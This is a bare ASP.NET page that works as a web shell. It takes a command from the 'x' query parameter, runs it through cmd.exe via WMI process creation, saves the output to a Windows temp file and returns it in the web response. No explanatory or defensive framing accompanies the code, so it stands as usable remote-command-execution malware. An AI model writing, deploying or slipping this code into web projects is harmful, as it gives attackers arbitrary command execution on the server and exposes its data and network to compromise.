<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string c = Request.QueryString["x"];
        if (c == null) return;
        ManagementClass mc = new ManagementClass(@"\\.\root\cimv2:Win32_Process");
        ManagementBaseObject inParams = mc.GetMethodParameters("Create");
        inParams["CommandLine"] = "cmd.exe /c " + c + " > C:\\Windows\\Temp\\o.txt";
        ManagementBaseObject outParams = mc.InvokeMethod("Create", inParams, null);
        System.Threading.Thread.Sleep(1500);
        Response.Write(System.IO.File.ReadAllText(@"C:\Windows\Temp\o.txt"));
    }
</script>
